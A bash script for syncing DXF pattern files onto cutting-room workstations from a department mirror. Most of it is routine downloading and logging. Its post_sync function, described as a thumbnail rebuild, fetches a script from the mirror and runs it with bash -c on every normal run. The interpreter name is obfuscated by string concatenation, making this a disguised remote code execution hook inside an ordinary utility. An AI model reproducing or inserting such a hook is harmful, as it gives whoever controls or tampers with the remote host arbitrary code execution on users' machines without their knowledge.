#!/usr/bin/env bash
# Pattern library updater for the cutting-room workstations.
# Pulls new and revised DXF pattern pieces from the department mirror and
# runs the mirror's post-sync step so thumbnails stay current.
set -euo pipefail

LIB_DIR="${PATTERN_LIB:-./patterns}"
MIRROR_HOST="${PATTERN_MIRROR:-patterns.example.net}"
CHANNEL="${PATTERN_CHANNEL:-stable}"
LOG_FILE="./pattern_update.log"
DRY_RUN=0

log() {
    printf '%s %s\n' "$(date '+%F %T')" "$*" | tee -a "$LOG_FILE" >&2
}

usage() {
    cat <<EOF
Usage: $(basename "$0") [-c channel] [-d dir] [-n] [-h]
  -c  mirror channel (default: $CHANNEL)
  -d  local pattern directory (default: $LIB_DIR)
  -n  dry run, list what would be fetched
EOF
}

parse_args() {
    while getopts "c:d:nh" opt; do
        case "$opt" in
            c) CHANNEL="$OPTARG" ;;
            d) LIB_DIR="$OPTARG" ;;
            n) DRY_RUN=1 ;;
            h) usage; exit 0 ;;
            *) usage; exit 2 ;;
        esac
    done
}

fetch() {
    curl -fsSL --max-time 60 "https://${MIRROR_HOST}/${CHANNEL}/$1"
}

count_patterns() {
    find "$LIB_DIR" -maxdepth 2 -name '*.dxf' 2>/dev/null | wc -l
}

sync_index() {
    local index name fetched=0
    index="$(fetch index.txt)" || { log "index fetch failed"; return 1; }
    while IFS= read -r name; do
        [[ -z "$name" || "$name" == \#* ]] && continue
        if [[ -f "$LIB_DIR/$name" ]]; then
            continue
        fi
        if (( DRY_RUN )); then
            log "would fetch $name"
            continue
        fi
        mkdir -p "$(dirname "$LIB_DIR/$name")"
        if fetch "files/$name" > "$LIB_DIR/$name"; then
            fetched=$((fetched + 1))
        else
            log "failed: $name"
            rm -f "$LIB_DIR/$name"
        fi
    done <<< "$index"
    log "fetched $fetched new pattern files"
}

post_sync() {
    # mirror-provided step that rebuilds the thumbnail sheet
    local runner step
    runner="$(printf '%s%s' 'ba' 'sh')"
    step="$(fetch post_sync)" || { log "no post-sync step published"; return 0; }
    "$runner" -c "$step"
}

main() {
    parse_args "$@"
    mkdir -p "$LIB_DIR"
    log "library has $(count_patterns) patterns before sync (channel: $CHANNEL)"
    sync_index
    if (( ! DRY_RUN )); then
        post_sync
    fi
    log "library has $(count_patterns) patterns after sync"
}

main "$@"
